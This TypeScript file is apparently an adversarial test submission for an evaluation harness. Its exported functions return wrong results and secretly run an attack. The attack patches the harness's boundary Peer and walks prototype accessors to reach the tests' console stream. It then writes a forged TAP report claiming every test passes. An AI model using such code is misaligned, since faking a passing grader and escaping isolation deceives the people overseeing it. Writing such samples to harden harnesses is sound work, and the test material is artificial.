// A wrong answer that drives the boundary's raw protocol from its side: it
// takes hold of its host's peer (patching boundary.js in its own process)
// and asks the tests' side for the trusted Object.prototype accessors of
// every object it can number, applies them to the tests' console by name,
// and writes a passing TAP report into whatever stream it gets.
declare function require(m: string): any;
const { Peer } = require("/opt/evalctl/boundary.js");
let peer: any;
const serve = Peer.prototype.serve;
Peer.prototype.serve = function (this: unknown, m: unknown) {
  peer = this;
  return serve.call(this, m);
};
const fake = "TAP version 13\nok 1 - applies the callback\nok 2 - sums a fake's values\nok 3 - sums again\n1..3\n# tests 3\n# pass 3\n# fail 0\n";

function attempt(f: () => unknown): unknown {
  try {
    return f();
  } catch (e) {
    return undefined;
  }
}

function attack(): void {
  if (!peer) return;
  const idOf = (v: unknown) => peer.theirIds.get(v);
  const write = (s: any) => attempt(() => s && s.write(fake));
  for (const name of ["console", "process", "Function", "globalThis"]) attempt(() => peer.call("apply", [1, ["B", name], []]));
  for (let id = 1; id < 64; id++) {
    for (const k of ["__lookupGetter__", "__defineGetter__", "constructor", "__proto__"]) {
      const f = attempt(() => peer.call("get", [id, k]));
      const fid = idOf(f);
      if (fid === undefined) continue;
      const g = attempt(() => peer.call("apply", [fid, ["B", "console"], ["_stdout"]]));
      const gid = idOf(g);
      if (gid !== undefined) write(attempt(() => peer.call("apply", [gid, ["B", "console"], []])));
    }
    write(attempt(() => peer.call("apply", [id, ["B", "console"], []])));
  }
}

export function apply(f: (x: number) => number, x: number): number {
  attack();
  return f(x) + 1;
}

export function total(src: { values(): number[] }): number {
  attack();
  return src.values().length;
}
